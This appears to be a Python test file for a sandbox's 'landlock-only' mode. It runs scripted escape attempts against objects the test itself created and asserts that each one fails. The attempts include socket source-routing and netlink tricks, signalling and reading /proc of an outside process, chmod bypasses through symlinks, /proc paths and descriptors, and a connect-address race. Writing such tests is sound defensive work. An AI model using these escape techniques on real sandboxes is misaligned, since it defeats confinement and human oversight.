"""security.mode landlock-only: a session in the host's namespaces, which only Landlock, seccomp and the daemon hold.

Here the host's processes, IPC objects, terminals and files are in reach, where elsewhere a namespace hides them. Every
attempt acts on what this test made, and says ESCAPED when it worked.
"""

import os
import pathlib
import subprocess

import escape
import harness
from escape import CANARY4, CANARY6, PORT

# Names for what Python's modules lack; E(name, statement) prints what came of one.
PRELUDE = (escape.HERE / "programs/prelude.py").read_text() + f"""
CANARY4, CANARY6, PORT = {CANARY4!r}, {CANARY6!r}, {PORT}
def E(name, attempt):
    try: result = attempt()
    except OSError as error: print(name, errno.errorcode.get(error.errno, error.errno), flush=True)
    else: print(name, "ESCAPED", result, flush=True)
def option(level, name, value, family=AF_INET):
    return lambda: socket.socket(family).setsockopt(level, name, value)
"""

# What would lead the daemon's connect() elsewhere, or bytes past it.
SOCKETS = """
hop = socket.inet_aton(CANARY4)
route = bytes([131, 7, 4]) + hop + b"\\0"
header = bytes([0, 2, 4, 1, 0, 0, 0, 0]) + socket.inet_pton(AF_INET6, CANARY6)
E("source route", option(0, 4, route))
E("source route in IPv6", option(0, 4, route, AF_INET6))
E("routing header", option(41, 57, header, AF_INET6))
E("routing header, old", option(41, 5, header, AF_INET6))
E("packet options, old", option(41, 6, header, AF_INET6))
E("flow label with options", option(41, 32, bytes(64), AF_INET6))
E("any source address", option(0, 15, 1))
E("any source address, IPv6", option(41, 78, 1, AF_INET6))
E("device", option(1, 25, b"internet\\0"))
E("device by number", option(1, 62, 2))
E("fast open at connect", option(6, 30, 1))
E("upper layer", option(6, 31, b"smc"))
E("repair", option(6, 19, 1))
E("pair of datagrams", lambda: socket.socketpair(AF_UNIX, SOCK_DGRAM))
E("pair of raw", lambda: socket.socketpair(AF_UNIX, SOCK_RAW))
def bound(family, address):
    s = socket.socket(family); s.bind((address, 0)); connect_raw(s, address4(CANARY4, PORT) if family == AF_INET else address6(CANARY6, PORT))
E("bound to the host's address", lambda: bound(AF_INET, "11.22.33.10"))
E("bound to the host's address, IPv6", lambda: bound(AF_INET6, "2600:11:22::10"))
E("bound to another loopback", lambda: bound(AF_INET, "127.9.9.9"))
def netlink(pid, groups=0):
    s = socket.socket(AF_NETLINK, SOCK_RAW, 0); connect_raw(s, struct.pack("=HHII", AF_NETLINK, 0, pid, groups))
E("netlink to a process", lambda: netlink(OUTSIDER))
E("netlink to a group", lambda: netlink(0, 1))
netlink(0); print("kernel ok")
a, b = socket.socketpair(); a.send(b"x"); print("pair ok")
"""

PROCESSES = """
import signal
E("signal", lambda: os.kill(OUTSIDER, signal.SIGTERM))
E("affinity", lambda: os.sched_setaffinity(OUTSIDER, {0}))
E("scheduler", lambda: os.sched_setscheduler(OUTSIDER, os.SCHED_IDLE, os.sched_param(0)))
E("nice", lambda: os.setpriority(os.PRIO_PROCESS, OUTSIDER, 19))
E("nice of the user", lambda: os.setpriority(os.PRIO_USER, os.getuid(), os.getpriority(os.PRIO_USER, os.getuid())))
E("io priority", lambda: syscall(251, 1, OUTSIDER, 3 << 13))
E("limit", lambda: syscall(302, OUTSIDER, 0, 0, 0))
E("descriptor", lambda: syscall(438, os.pidfd_open(OUTSIDER), 0, 0))
for name in ("environ", "mem", "maps", "root", "cwd"):
    E(name, lambda: os.listdir(f"/proc/{OUTSIDER}/{name}") if name in ("root", "cwd") else open(f"/proc/{OUTSIDER}/{name}").read(1))
E("shared memory", lambda: syscall(29, 0, 4096, 0o1600))
E("semaphores", lambda: syscall(64, 0, 1, 0o1600))
E("messages", lambda: syscall(68, 0, 0o1600))
E("POSIX messages", lambda: syscall(240, b"agentsh-escape\\0", os.O_RDWR | os.O_CREAT, 0o600, 0))
E("terminals", lambda: os.listdir("/dev/pts"))
E("a terminal", lambda: os.open(TERMINAL, os.O_RDWR | os.O_NOCTTY))
E("new terminals", lambda: os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
os.setpriority(os.PRIO_PROCESS, 0, 1); os.sched_setaffinity(0, os.sched_getaffinity(0)); print("own ok")
"""

# chmod and its like on a file outside that the session's user owns; and inside, where they have to work.
METADATA = """
import stat
E("chmod", lambda: os.chmod(OUTSIDE, 0o777))
E("chmod by link", lambda: (os.symlink(OUTSIDE, "link"), os.chmod("link", 0o777)))
E("chmod by dots", lambda: os.chmod("../" * 20 + OUTSIDE, 0o777))
E("chmod by proc", lambda: os.chmod("/proc/self/cwd/" + "../" * 20 + OUTSIDE, 0o777))
E("fchmod", lambda: os.fchmod(os.open(OUTSIDE, os.O_RDONLY), 0o777))
E("chmod by descriptor", lambda: os.chmod(f"/proc/self/fd/{os.open(OUTSIDE, os.O_RDONLY)}", 0o777))
E("fchmodat", lambda: syscall(268, os.open("/", os.O_RDONLY), OUTSIDE[1:].encode() + b"\\0", 0o777))
E("fchmodat2", lambda: syscall(452, -100, OUTSIDE.encode() + b"\\0", 0o777, 0))
E("fchmodat2 of nothing", lambda: syscall(452, os.open(OUTSIDE, os.O_PATH), b"\\0", 0o777, 0x1000))
E("times", lambda: os.utime(OUTSIDE, (1, 1)))
E("times by descriptor", lambda: os.utime(os.open(OUTSIDE, os.O_RDONLY), (1, 1)))
E("times, old", lambda: syscall(132, OUTSIDE.encode() + b"\\0", 0))
E("owner", lambda: os.chown(OUTSIDE, os.getuid(), os.getgid()))
E("attribute", lambda: os.setxattr(OUTSIDE, "user.agentsh", b"x"))
E("flags", lambda: __import__("fcntl").ioctl(os.open(OUTSIDE, os.O_RDONLY), 0x40086602, struct.pack("i", 0x40)))
E("descriptor of the daemon", lambda: [os.chmod(f"/proc/self/task/../fd/{n}", 0o777) for n in range(3, 40)])
E("set-user-ID", lambda: (open("own", "w"), os.chmod("own", 0o4755)))
open("own", "w"); os.chmod("own", 0o640); assert stat.S_IMODE(os.stat("own").st_mode) == 0o640
fd = os.open("own", os.O_RDONLY); os.fchmod(fd, 0o600); os.chmod(f"/proc/self/fd/{fd}", 0o644)
os.utime("own", (5, 7)); assert os.stat("own").st_mtime == 7
os.utime(fd, (5, 8)); assert os.stat("own").st_mtime == 8
os.utime("own"); os.symlink("own", "other"); os.utime("other", (1, 2), follow_symlinks=False)
assert os.lstat("other").st_mtime == 2 and os.stat("own").st_mtime > 8
os.mkdir("sub"); d = os.open("sub", os.O_RDONLY); open("sub/f", "w"); os.chmod("f", 0o600, dir_fd=d)
os.chdir("sub"); os.chmod("f", 0o604); os.chmod("../own", 0o604); print("inside ok")
E("no such", lambda: os.chmod("absent", 0o600))
E("bad address", lambda: syscall(90, 8, 0o600))
"""

# Two threads turn address and descriptor of a connect that waits; where the socket goes is the daemon's alone.
RACE = """
import threading, time
target = ctypes.create_string_buffer(address4("11.22.33.10", 80), 16)
good, bad = target.raw, address4(CANARY4, PORT)
keep, stop = socket.socket(), False
def flip():
    while not stop:
        ctypes.memmove(target, bad, 16); ctypes.memmove(target, good, 16)
def swap(number):
    while not stop:
        other = socket.socket(); os.dup2(other.fileno(), number); other.close()
number = os.dup(keep.fileno())
threads = [threading.Thread(target=flip), threading.Thread(target=swap, args=(number,))]
for t in threads: t.start()
end = time.monotonic() + 4
rounds = 0
while time.monotonic() < end:
    libc.connect(number, target, 16); libc.send(number, TOKEN, len(TOKEN), 0x4000)
    s = socket.socket(); libc.connect(s.fileno(), target, 16); libc.send(s.fileno(), TOKEN, len(TOKEN), 0x4000)
    peer = s.getpeername()[0] if s.fileno() >= 0 else ""
    assert peer == "127.0.0.1", peer
    s.close(); rounds += 1
stop = True
for t in threads: t.join()
print("rounds", rounds)
"""

# A filter that drops every answer keeps the connect from ending; others have to go on. Where the kernel lets only the
# privileged have one, the connect ends as any other.
DEAF = """
import time
drop = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0), 8)
for _ in range(3):
    s = socket.socket(); s.settimeout(None)
    try: s.setsockopt(1, 26, struct.pack("HxxxxxxP", 1, ctypes.addressof(drop)))
    except PermissionError: print("not deaf")
    started = time.monotonic()
    try: connect_raw(s, address4("11.22.33.10", 80))
    except OSError as error: assert error.errno == errno.ETIMEDOUT, error
    assert time.monotonic() - started < 10
print("over")
"""

LOOSE = """
import signal, sys, time
init = os.getppid()
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        if os.fork(): os._exit(0)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        open(f"loose-{os.getpid()}", "w").close()
        if HOW == "stopped": os.kill(os.getpid(), signal.SIGSTOP)
        while True: time.sleep(1)
time.sleep(0.5)
os.kill(init, signal.SIGSTOP if HOW == "stop" else signal.SIGKILL) if HOW != "stopped" else None
"""


class LandlockOnly(escape.EscapeTest):
    config = "security: {mode: landlock-only}\n"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        user = cls.appliance.user
        cls.master, slave = os.openpty()
        cls.addClassCleanup(os.close, cls.master)
        cls.addClassCleanup(os.close, slave)
        cls.terminal = os.ttyname(slave)
        cls.outside_file = cls.tools.parent / "outside-file"
        cls.outside_file.write_text("x")
        cls.outside_file.chmod(0o600)
        command = ["sleep", "1000"]
        if user:
            os.chown(cls.terminal, user.pw_uid, user.pw_gid)
            os.chown(cls.outside_file, user.pw_uid, user.pw_gid)
        cls.victim = cls.internet.world.processes.start(*cls.appliance.as_user(command), cwd="/")

    def python(self, program, sid=None, **values):
        given = dict(OUTSIDER=self.victim.pid, OUTSIDE=str(self.outside_file), TERMINAL=self.terminal) | values
        text = PRELUDE + "".join(f"{name} = {value!r}\n" for name, value in given.items()) + program
        return self.appliance.cli("exec", sid or self.sid, "--", "/usr/bin/python3", "-c", text, cwd=self.tools, timeout=30)

    def refused(self, program, *good):
        result = self.python(program)
        text = self.text(result)
        self.assertEqual(result.returncode, 0, text)
        self.assertNotIn("ESCAPED", text)
        for line in good:
            self.assertIn(line, text)

    def test_sockets(self):
        self.refused(SOCKETS, "kernel ok", "pair ok")

    def test_processes_ipc_and_terminals(self):
        self.refused(PROCESSES, "own ok")
        self.assertIsNone(self.victim.poll())

    def test_modes_and_times_of_files(self):
        before = self.outside_file.stat()
        self.refused(METADATA, "inside ok", "no such ENOENT", "bad address EFAULT")
        after = self.outside_file.stat()
        self.assertEqual((before.st_mode, before.st_mtime, before.st_ctime), (after.st_mode, after.st_mtime, after.st_ctime))

    def test_race(self):
        token = self.new_token("race")
        result = self.python(RACE, TOKEN=token)
        self.assertIn("rounds", self.text(result))
        self.assertFalse(self.internet.canaries.has(token))

    def test_an_answer_that_never_comes(self):
        result = self.python(DEAF)
        self.assertIn("over", self.text(result))

    def test_a_terminal_for_a_command(self):
        result = self.appliance.cli("exec", "--pty", self.sid, "--", "sh", "-c", "test -t 0 && tty && echo for-me > /dev/tty")
        self.assertEqual(result.returncode, 0, self.text(result))
        self.assertIn(b"for-me", result.stdout)

    def test_what_is_left_when_init_is_stopped_or_killed(self):
        for how in ("stop", "kill", "stopped"):
            with self.subTest(how):
                place = self.appliance.workspace()
                created = self.appliance.cli("session", "create", "--workspace", place)
                self.assertEqual(created.returncode, 0, self.text(created))
                sid = created.stdout.decode().strip()
                self.run_loose(sid, place, how)
                pids = [int(p.name.split("-")[1]) for p in place.glob("loose-*")]
                self.assertGreaterEqual(len(pids), 20)
                self.appliance.cli("session", "destroy", sid, timeout=30)
                harness.wait_until(lambda: not any(pathlib.Path(f"/proc/{p}").exists() for p in pids), "everything ends", 15)

    def run_loose(self, sid, place, how):
        """What it started keeps its streams open, and nobody may be left to say that it has ended: it is not waited for."""
        self.internet.world.processes.start(
            *self.appliance.as_user([harness.Arguments.bin / "agentsh", "exec", sid, "--", "/usr/bin/python3", "-c",
                                     f"import os\nHOW = {how!r}\n" + LOOSE]), env=self.appliance.environment(), cwd=place,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        harness.wait_until(lambda: len(list(place.glob("loose-*"))) >= 20, "it runs")
        if how == "stop":
            harness.wait_until(lambda: self.stopped_init(place), "init is stopped")
        elif how == "kill":
            harness.wait_until(lambda: self.appliance.json("session", "list") is not None, "the daemon lives")

    @staticmethod
    def stopped_init(place):
        for loose in place.glob("loose-*"):
            status = pathlib.Path(f"/proc/{loose.name.split('-')[1]}/stat").read_text().rsplit(")", 1)[1].split()
            parent = pathlib.Path(f"/proc/{status[1]}/stat").read_text().rsplit(")", 1)[1].split()
            if parent[0] == "T":
                return True
        return False


if __name__ == "__main__":
    harness.main()
